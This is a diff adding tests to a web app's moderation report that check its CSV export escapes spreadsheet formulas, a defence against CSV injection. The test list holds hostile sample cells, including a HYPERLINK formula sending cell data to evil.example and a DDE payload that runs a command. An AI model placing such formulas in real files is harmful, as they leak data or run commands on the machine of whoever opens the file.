@@ -550,6 +550,37 @@ def test_report_chart_and_csv(mworld, as_user, client):
     assert any(",2,1,0," in line and "offensive_language" in line for line in lines[1:])
 
 
+# Cells a spreadsheet would run as formulas (OWASP "CSV injection"): the export shows them as text.
+FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click for your prize")', "+44 7700 900123 ring me",
+            "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+def test_report_csv_with_formula_comments_holds_no_formula(mworld, as_user, client):
+    import csv
+    import io
+
+    from safepost_web.core.spreadsheet import FORMULA_STARTS
+
+    deliver(client, fb([{"id": f"f{i}", "text": t} for i, t in enumerate(FORMULAS)]))
+    assert Comment.objects.filter(text=FORMULAS[0]).exists()
+    r = as_user("carol").get("/s/brookfield/moderation/report.csv")
+    cells = [c for row in csv.reader(io.StringIO(r.content.decode())) for c in row]
+    assert "6" in cells and not any(c.startswith(FORMULA_STARTS) for c in cells)
+
+
+@pytest.mark.parametrize("cell", FORMULAS)
+def test_report_csv_quotes_a_formula_cell(cell):
+    import csv
+    import io
+
+    from safepost_web.moderation import report as mreport
+
+    rows = [{"month": "2026-11", "received": 1, "removed": 0, "escalated": 0, "median_hours": None,
+             "categories": {cell: 1, "offensive_language": 2}}]
+    out = list(csv.reader(io.StringIO(mreport.to_csv(rows))))
+    assert [r[5] for r in out[1:]] == ["'" + cell, "offensive_language"]
+
+
 # -- who may see what -------------------------------------------------------------------------------------------------
 MOD_PAGES = ["", "queue/", "authors/", "cover/", "import/", "report/", "report.csv", "comments/{c}/"]
 ADMIN_PAGES = ["events/", "settings/facebook/"]
